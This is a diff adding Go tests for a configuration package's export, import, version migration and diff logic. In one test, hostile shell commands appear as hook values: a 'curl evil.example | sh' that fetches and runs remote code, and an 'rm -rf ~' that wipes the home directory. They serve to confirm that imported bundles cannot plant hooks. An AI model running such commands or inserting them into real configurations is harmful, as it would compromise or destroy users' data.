@@ -0,0 +1,137 @@
+package config
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+)
+
+func TestExportImportRoundTrip(t *testing.T) {
+	src := DefaultConfig()
+	src.DurationMinutes = 50
+	src.HotkeyEnabled = true
+	src.HotkeyResetKey = 'K'
+	src.Autostart = true
+	if err := src.SaveProfile("focus"); err != nil {
+		t.Fatal(err)
+	}
+
+	data, err := Export(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(data), `"autostart"`) {
+		t.Errorf("machine-specific autostart exported:\n%s", data)
+	}
+
+	dst := DefaultConfig()
+	dst.Autostart = false
+	imported, err := Import(data, dst)
+	if err != nil {
+		t.Fatalf("Import: %v", err)
+	}
+	if imported.DurationMinutes != 50 || !imported.HotkeyEnabled || imported.HotkeyResetKey != 'K' {
+		t.Errorf("settings not imported: %+v", imported)
+	}
+	if imported.ActiveProfile != "focus" || len(imported.Profiles) != 2 {
+		t.Errorf("profiles not imported: %v, active %q", imported.Profiles, imported.ActiveProfile)
+	}
+	if imported.Autostart {
+		t.Errorf("local autostart overwritten by import")
+	}
+	if dst.DurationMinutes != DefaultConfig().DurationMinutes {
+		t.Errorf("Import modified the current config")
+	}
+}
+
+func TestImportMigratesOldBundles(t *testing.T) {
+	doc, _ := json.Marshal(map[string]any{"duration_minutes": 45, "alert_style": "blink"})
+	data, _ := json.Marshal(Bundle{Format: BundleFormat, Version: 1, Config: doc})
+
+	imported, err := Import(data, DefaultConfig())
+	if err != nil {
+		t.Fatalf("Import: %v", err)
+	}
+	if imported.Profiles[DefaultProfile].DurationMinutes != 45 || imported.ActiveProfile != DefaultProfile {
+		t.Errorf("v1 bundle not migrated: %+v", imported)
+	}
+}
+
+func TestImportRejectsInvalidBundles(t *testing.T) {
+	if _, err := Import([]byte(`{"format": "something-else"}`), DefaultConfig()); err == nil {
+		t.Error("expected an error for a foreign file")
+	}
+	doc, _ := json.Marshal(map[string]any{"alert_style": "banana"})
+	data, _ := json.Marshal(Bundle{Format: BundleFormat, Version: CurrentVersion, Config: doc})
+	if _, err := Import(data, DefaultConfig()); err == nil {
+		t.Error("expected invalid values to be rejected")
+	}
+}
+
+func TestDiff(t *testing.T) {
+	a := DefaultConfig()
+	b := DefaultConfig()
+	b.AlertStyle = "blink"
+	if err := b.SaveProfile("focus"); err != nil {
+		t.Fatal(err)
+	}
+
+	changes, err := Diff(a, b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]Change{}
+	for _, c := range changes {
+		got[c.Field] = c
+	}
+	if c, ok := got["alert_style"]; !ok || c.Old != "color" || c.New != "blink" {
+		t.Errorf("alert_style change = %+v", c)
+	}
+	if c, ok := got["profiles.focus"]; !ok || c.Old != nil {
+		t.Errorf("added profile not reported: %+v", changes)
+	}
+	if _, ok := got["active_profile"]; !ok {
+		t.Errorf("active_profile change not reported: %+v", changes)
+	}
+	if len(changes) != 3 {
+		t.Errorf("unexpected changes: %v", changes)
+	}
+}
+
+func TestImportKeepsLocalHooks(t *testing.T) {
+	theirs := DefaultConfig()
+	theirs.Hooks.OnAlert = "curl evil.example | sh"
+	data, err := Export(theirs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(data), "evil") {
+		t.Errorf("hooks exported: %s", data)
+	}
+
+	// A hand-edited bundle with hooks must not apply them either.
+	var b Bundle
+	if err := json.Unmarshal(data, &b); err != nil {
+		t.Fatal(err)
+	}
+	var doc map[string]any
+	if err := json.Unmarshal(b.Config, &doc); err != nil {
+		t.Fatal(err)
+	}
+	doc["hooks"] = map[string]string{"on_alert": "rm -rf ~"}
+	if b.Config, err = json.Marshal(doc); err != nil {
+		t.Fatal(err)
+	}
+	if data, err = json.Marshal(b); err != nil {
+		t.Fatal(err)
+	}
+	mine := DefaultConfig()
+	mine.Hooks.OnAlert = "notify-send hi"
+	got, err := Import(data, mine)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got.Hooks.OnAlert != "notify-send hi" {
+		t.Errorf("Hooks.OnAlert = %q, want the local hook", got.Hooks.OnAlert)
+	}
+}